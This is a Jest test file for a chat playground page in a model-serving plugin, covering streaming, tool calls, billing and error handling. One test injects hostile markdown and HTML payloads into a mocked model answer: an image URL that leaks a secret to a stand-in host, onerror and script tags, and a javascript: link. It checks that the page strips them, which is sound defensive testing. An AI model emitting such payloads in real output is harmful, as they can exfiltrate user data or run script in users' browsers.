import type { Model } from '@openmaas/backstage-plugin-maas-common';
import { screen, waitFor, within } from '@testing-library/react';
import { aModel, aPlan } from '../../../__testUtils__/fixtures';
import { pageOf, refusal } from '../../../__testUtils__/mockMaasApi';
import { renderMaas } from '../../../__testUtils__/renderMaas';
import { ends, FakeStream, says, uses } from '../../../__testUtils__/streams';

jest.setTimeout(60_000);

const TEAM = 'group:default/cs-department';

const callable = (overrides: Partial<Model>, team = TEAM): Model =>
  aModel({ access: [{ team, plan: 'free', state: 'active' }], ...overrides });

const GRANITE = callable({});
const DEVSTRAL = callable({
  id: 'devstral-2',
  servedName: 'mistralai/devstral',
  title: 'Devstral 2',
});

interface Sent {
  url: string;
  headers: Record<string, string>;
  body: Record<string, any>;
}

/** A gateway whose answers a test gives, in the order of the calls. */
function fakeGateway() {
  const sent: Sent[] = [];
  const streams: FakeStream[] = [];
  const fetch = (async (url: string, init: RequestInit) => {
    const stream = streams[sent.length] ?? new FakeStream();
    streams[sent.length] = stream;
    sent.push({
      url,
      headers: init.headers as Record<string, string>,
      body: JSON.parse(String(init.body)),
    });
    init.signal!.addEventListener('abort', () =>
      stream.breakOff(new Error('aborted')),
    );
    return stream.response;
  }) as typeof globalThis.fetch;
  return { fetch, sent, streams };
}

async function open(
  path = '',
  models: Model[] = [GRANITE, DEVSTRAL],
  more: Partial<Parameters<typeof renderMaas>[0]> = {},
) {
  const gateway = fakeGateway();
  const rendered = await renderMaas({
    path: `/maas/playground${path}`,
    fetch: gateway.fetch,
    ...more,
    api: {
      listModels: async query =>
        pageOf(
          query?.mine
            ? models
            : models.filter(({ id }) => query?.ids?.includes(id)),
        ),
      listPlans: async () => [aPlan()],
      ...more.api,
    },
  });
  return { ...gateway, ...rendered };
}

const prompt = () => screen.findByRole('textbox', { name: 'Prompt' });
const chat = (title: string) =>
  screen.findByRole('region', { name: `Chat with ${title}` });
/** What a screen reader is told of a conversation, beside what is copied. */
const status = async (title: string) =>
  within(await chat(title))
    .getAllByRole('status')
    .slice(-1)[0];

describe('PlaygroundPage', () => {
  it('streams an answer, and says what it took', async () => {
    const { click, sent, streams } = await open();
    await click.type(await prompt(), 'Say hello{Enter}');
    expect(sent).toEqual([
      {
        url: 'http://example.com/api/maas-gateway/v1/chat/completions',
        headers: { 'content-type': 'application/json', 'x-maas-team': TEAM },
        body: {
          model: 'granite-3.3-8b',
          messages: [{ role: 'user', content: 'Say hello' }],
          stream: true,
          stream_options: { include_usage: true },
        },
      },
    ]);
    expect(await prompt()).toHaveValue('');
    expect(await prompt()).toHaveFocus();
    const column = await chat('Granite 3.3 8B');
    expect(within(column).getByText('Say hello')).toBeInTheDocument();

    streams[0].push(says('**Hel'));
    expect(await within(column).findByText(/Hel/)).toBeInTheDocument();
    expect(await status('Granite 3.3 8B')).toBeEmptyDOMElement();
    streams[0].push(says('lo**'), ends(), uses(1200, 34, { cached: 1000 }));
    streams[0].done();
    const figures = await within(column).findByRole('list', {
      name: 'What this answer took',
    });
    expect(figures).toHaveTextContent('1,200 in');
    expect(figures).toHaveTextContent('1,000 cached');
    expect(figures).toHaveTextContent('34 out');
    expect(figures).toHaveTextContent('$0.00005');
    expect(figures).not.toHaveTextContent('≈');
    expect(within(column).getByText('Hello').tagName).toBe('STRONG');
    expect(await status('Granite 3.3 8B')).toHaveTextContent(
      'Granite 3.3 8B has answered: **Hello**',
    );
  });

  it('asks several models at once, and goes on in each conversation', async () => {
    const { click, sent, streams, address } = await open();
    await click.click(
      await screen.findByRole('button', { name: /Add a model/ }),
    );
    await click.click(
      await screen.findByRole('option', { name: /Devstral 2/ }),
    );
    expect(address()).toBe('/maas/playground?model=granite-3&model=devstral-2');
    await click.type(await prompt(), 'Hi{Enter}');
    await waitFor(() => expect(sent).toHaveLength(2));
    streams[0].push(says('One'), ends()).done();
    // Nothing can be sent while one of them answers.
    await within(await chat('Granite 3.3 8B')).findByText('One');
    await click.type(await prompt(), 'And?{Enter}');
    expect(sent).toHaveLength(2);
    streams[1].push(says('Two'), ends()).done();
    await within(await chat('Devstral 2')).findByRole('list');
    await click.click(screen.getByRole('button', { name: 'Send to all' }));
    await waitFor(() => expect(sent).toHaveLength(4));
    expect(
      sent.slice(2).map(({ body }) => [body.model, body.messages[1].content]),
    ).toEqual([
      ['granite-3.3-8b', 'One'],
      ['mistralai/devstral', 'Two'],
    ]);
  });

  it('stops with Escape, keeps what has come, and asks once more', async () => {
    const { click, sent, streams } = await open();
    await click.type(await prompt(), 'Hi{Enter}');
    const column = await chat('Granite 3.3 8B');
    streams[0].push(says('Some'));
    await within(column).findByText('Some');
    await click.keyboard('{Escape}');
    expect(await within(column).findByText('Stopped.')).toBeInTheDocument();
    expect(within(column).getByText('Some')).toBeInTheDocument();
    expect(within(column).getByRole('list')).toHaveTextContent('≈');
    expect(await prompt()).toHaveFocus();

    await click.click(
      within(column).getByRole('button', { name: /Retry with/ }),
    );
    expect(sent[1].body.messages).toEqual(sent[0].body.messages);
    streams[1].push(says('Whole'), ends()).done();
    await within(column).findByText('Whole');
    expect(within(column).queryByText('Some')).toBeNull();
  });

  it('writes a new line with Shift+Enter, and sends no empty prompt', async () => {
    const { click, sent } = await open();
    await click.type(
      await prompt(),
      '{Enter}  {Enter}a{Shift>}{Enter}{/Shift}b',
    );
    expect(sent).toEqual([]);
    expect(await prompt()).toHaveValue('  a\nb');
  });

  it('says why the gateway refused, and what helps', async () => {
    const { click, streams } = await open();
    streams[0] = new FakeStream({ status: 429 });
    const error = { message: 'Limit reached', code: 'rate_limit_exceeded' };
    streams[0].raw(JSON.stringify({ error })).end();
    await click.type(await prompt(), 'Hi{Enter}');
    const column = await chat('Granite 3.3 8B');
    expect(await within(column).findByText('Limit reached')).toBeVisible();
    expect(
      within(column).getByRole('link', { name: 'Ask for a larger plan' }),
    ).toHaveAttribute('href', expect.stringContaining('granite-3'));
    expect(
      within(column).getByRole('link', { name: /what became of this/ }),
    ).toHaveAttribute('href', '/maas/usage?request=request-1');
    expect(await status('Granite 3.3 8B')).toHaveTextContent(
      'has not answered: Limit reached',
    );
  });

  it('shows nothing of an answer that could harm', async () => {
    const { click, streams } = await open();
    await click.type(await prompt(), 'Hi{Enter}');
    const harm = [
      'Here: ![x](https://evil.test/?secret)',
      '<img src="https://evil.test/2" onerror="alert(1)"><script>alert(2)</script>',
      '[link](javascript:alert(3)) [fine](https://good.test)',
    ];
    streams[0].push(says(harm.join('\n\n')), ends()).done();
    const column = await chat('Granite 3.3 8B');
    const link = await within(column).findByRole('link', { name: /fine/ });
    expect(link).toHaveAttribute('target', '_blank');
    expect(column.querySelectorAll('[src]:not([src=""])')).toHaveLength(0);
    expect(
      column.querySelectorAll('script, [onerror], [href^="javascript"]'),
    ).toHaveLength(0);
  });

  it('sends settings that are set, and stops at tools that are wrong', async () => {
    const { click, sent } = await open();
    await click.click(await screen.findByRole('button', { name: 'Settings' }));
    const dialog = await screen.findByRole('dialog');
    await click.type(
      within(dialog).getByRole('textbox', { name: /System prompt/ }),
      'Be brief',
    );
    await click.type(
      within(dialog).getByRole('textbox', { name: 'Temperature' }),
      '0.25{Tab}',
    );
    await click.type(
      within(dialog).getByRole('textbox', { name: /Tools/ }),
      'nonsense',
    );
    expect(within(dialog).getByText('This is not JSON.')).toBeInTheDocument();
    await click.click(within(dialog).getByRole('button', { name: 'Done' }));
    await click.type(await prompt(), 'Hi{Enter}');
    expect(sent).toEqual([]);
    expect(screen.getByRole('alert')).toHaveTextContent('This is not JSON.');

    await click.click(screen.getByRole('button', { name: 'Settings' }));
    const again = await screen.findByRole('dialog');
    await click.clear(within(again).getByRole('textbox', { name: /Tools/ }));
    await click.click(
      within(again).getByRole('button', { name: 'Insert an example' }),
    );
    await click.click(within(again).getByRole('button', { name: 'Done' }));
    await click.type(await prompt(), '{Enter}');
    await waitFor(() => expect(sent).toHaveLength(1));
    expect(sent[0].body).toMatchObject({
      temperature: 0.25,
      messages: [{ role: 'system', content: 'Be brief' }, { role: 'user' }],
      tools: [{ function: { name: 'get_weather' } }],
    });
    expect(sent[0].body).not.toHaveProperty('top_p');
  });

  it('shows calls of tools, and sends their results back', async () => {
    const { click, sent, streams } = await open();
    await click.type(await prompt(), 'Weather?{Enter}');
    const call = {
      index: 0,
      id: 'call-1',
      function: { name: 'get_weather', arguments: '{"city":"Berlin"}' },
    };
    streams[0]
      .push(
        { choices: [{ delta: { tool_calls: [call] } }] },
        ends('tool_calls'),
      )
      .done();
    const result = await screen.findByRole('textbox', {
      name: 'Result of get_weather',
    });
    expect(
      screen.getByText('Granite 3.3 8B calls get_weather'),
    ).toBeInTheDocument();
    await click.type(result, 'Sunny');
    await click.click(screen.getByRole('button', { name: 'Send the results' }));
    expect(sent[1].body.messages.slice(-1)).toEqual([
      { role: 'tool', tool_call_id: 'call-1', content: 'Sunny' },
    ]);
    expect(
      screen.queryByRole('button', { name: 'Send the results' }),
    ).toBeNull();
  });

  it('folds reasoning away once there is an answer', async () => {
    const { click, streams } = await open();
    await click.type(await prompt(), 'Hi{Enter}');
    streams[0].push({ choices: [{ delta: { reasoning: 'Hmm' } }] });
    const thoughts = await screen.findByText('Hmm');
    expect(thoughts).toBeVisible();
    streams[0].push(says('Yes'), ends()).done();
    await screen.findByText('Yes');
    expect(thoughts).not.toBeVisible();
  });

  it('sends images to a model that takes them', async () => {
    const seeing = callable({
      modalities: { input: ['text', 'image'], output: ['text'] },
    });
    const { click, sent } = await open('?model=granite-3&model=devstral-2', [
      seeing,
      DEVSTRAL,
    ]);
    const input = await screen.findByTestId('images');
    const cat = new File(['abc'], 'cat.png', { type: 'image/png' });
    await click.upload(input, cat);
    await screen.findByRole('img', { name: 'cat.png' });
    await click.click(screen.getByRole('button', { name: 'Remove cat.png' }));
    expect(screen.queryByRole('img', { name: 'cat.png' })).toBeNull();
    await click.upload(input, cat);
    await screen.findByRole('img', { name: 'cat.png' });
    await click.type(await prompt(), 'What is it?{Enter}');
    await waitFor(() => expect(sent).toHaveLength(2));
    expect(sent[0].body.messages[0].content[1]).toEqual({
      type: 'image_url',
      image_url: { url: 'data:image/png;base64,YWJj' },
    });
    expect(sent[1].body.messages[0].content).toBe('What is it?');
    expect(
      within(await chat('Devstral 2')).getByText(/got only the text/),
    ).toBeInTheDocument();
    expect(
      screen.queryByRole('list', { name: 'Images beside the prompt' }),
    ).toBeNull();
  });

  it('exports what was asked, without any key', async () => {
    const { click, streams } = await open();
    await click.type(await prompt(), "It's me{Enter}");
    streams[0].push(says('Hello'), ends()).done();
    await screen.findByText('Hello');
    await click.click(screen.getByRole('button', { name: 'Export' }));
    const program = await screen.findByRole('textbox', { name: 'curl' });
    expect(program).toHaveTextContent("It's me");
    expect(program).toHaveTextContent('https://llm.test/v1/chat/completions');
    expect(program).not.toHaveTextContent('"stream"');
    await click.click(screen.getByRole('tab', { name: 'Python' }));
    expect(
      await screen.findByRole('textbox', { name: 'Python' }),
    ).toHaveTextContent('base_url="https://llm.test/v1"');
  });

  it('asks before a conversation is lost, and forgets it', async () => {
    const { click, streams } = await open();
    expect(
      await screen.findByRole('button', { name: 'New chat' }),
    ).toBeDisabled();
    await click.type(await prompt(), 'Hi{Enter}');
    streams[0].push(says('Hello'), ends()).done();
    await screen.findByText('Hello');
    await click.click(screen.getByRole('button', { name: 'New chat' }));
    const dialog = await screen.findByRole('dialog');
    await click.click(within(dialog).getByRole('button', { name: 'New chat' }));
    await waitFor(() => expect(screen.queryByText('Hello')).toBeNull());
    expect(await prompt()).toHaveFocus();
  });

  it('opens the models and the team of a link', async () => {
    const mine = 'group:default/research';
    const { sent, click } = await open(
      '?model=devstral-2&model=secret&team=group:default/research',
      [
        GRANITE,
        callable({ id: 'devstral-2', title: 'Devstral 2' }, mine),
        aModel({ id: 'secret', title: 'Secret Sauce', access: [] }),
      ],
      { groups: [TEAM, mine] },
    );
    await chat('Devstral 2');
    const foreign = await chat('Secret Sauce');
    expect(
      within(foreign).getByText('Your team cannot call this model'),
    ).toBeInTheDocument();
    expect(
      within(foreign).getByRole('link', { name: 'Request access' }),
    ).toHaveAttribute('href', expect.stringContaining('secret'));
    await click.type(await prompt(), 'Hi{Enter}');
    await waitFor(() => expect(sent).toHaveLength(1));
    expect(sent[0].headers['x-maas-team']).toBe(mine);
  });

  it('bills an answer to the team that asked, whichever is chosen later', async () => {
    const other = 'group:default/research';
    const shared = aModel({
      access: [
        { team: TEAM, plan: 'free', state: 'active' },
        { team: other, plan: 'premium', state: 'active' },
      ],
    });
    const { click, sent, streams } = await open('?model=granite-3', [shared], {
      groups: [TEAM, other],
      api: {
        listPlans: async () => [
          aPlan(),
          aPlan({ id: 'premium', title: 'Premium', priceFactor: '2' }),
        ],
      },
    });
    const ask = async (nth: number) => {
      await click.type(await prompt(), 'Hi{Enter}');
      await waitFor(() => expect(sent).toHaveLength(nth + 1));
      streams[nth].push(says(`${nth}`), ends(), uses(1_000_000, 0)).done();
      await waitFor(() =>
        expect(screen.getAllByLabelText('What this answer took')).toHaveLength(
          nth + 1,
        ),
      );
    };
    await ask(0);
    await click.click(screen.getByRole('button', { name: /Team/ }));
    await click.click(await screen.findByRole('option', { name: /research/ }));
    await screen.findByText('Plan Premium: prices × 2');
    await ask(1);
    expect(sent.map(({ headers }) => headers['x-maas-team'])).toEqual([
      TEAM,
      other,
    ]);
    const [first, second] = screen.getAllByLabelText('What this answer took');
    expect(first).toHaveTextContent('$0.038');
    expect(second).toHaveTextContent('$0.075');
  });

  it('does not blame the network for what the model server says', async () => {
    const { click, streams } = await open();
    await click.type(await prompt(), 'Hi{Enter}');
    streams[0].push(says('Once'), { error: { message: 'No room', code: 500 } });
    const column = await chat('Granite 3.3 8B');
    expect(await within(column).findByText('No room')).toBeVisible();
    expect(within(column).getByText(/but about the model/)).toBeVisible();
    expect(within(column).queryByText(/Check the network/)).toBeNull();
  });

  it('says that a model is off, before it is asked', async () => {
    await open('', [
      callable({ status: { state: 'off', reason: 'Switched off by Petra' } }),
    ]);
    expect(
      within(await chat('Granite 3.3 8B')).getByText('Switched off by Petra'),
    ).toBeInTheDocument();
  });

  it.each([
    ['no team', 'You are in no team', { groups: [] }, [GRANITE]],
    ['no grants', /access to no model yet/, {}, []],
    ['no chat', /can chat/, {}, [callable({ capabilities: ['embeddings'] })]],
    ['no playground', /no playground here/, { playground: false }, [GRANITE]],
  ])('says what to do where there is %s', async (_, text, more, models) => {
    await open('', models, more);
    expect(await screen.findByText(text)).toBeInTheDocument();
    expect(screen.queryByRole('textbox', { name: 'Prompt' })).toBeNull();
  });

  it('says why models could not be loaded, and tries again', async () => {
    let fail = true;
    const { click } = await open('', [], {
      api: {
        listModels: async () => {
          if (fail) {
            throw await refusal(503, 'Down for a moment');
          }
          return pageOf([GRANITE]);
        },
      },
    });
    expect(await screen.findByText('Down for a moment')).toBeInTheDocument();
    fail = false;
    await click.click(screen.getByRole('button', { name: 'Try again' }));
    expect(await prompt()).toBeInTheDocument();
  });
});
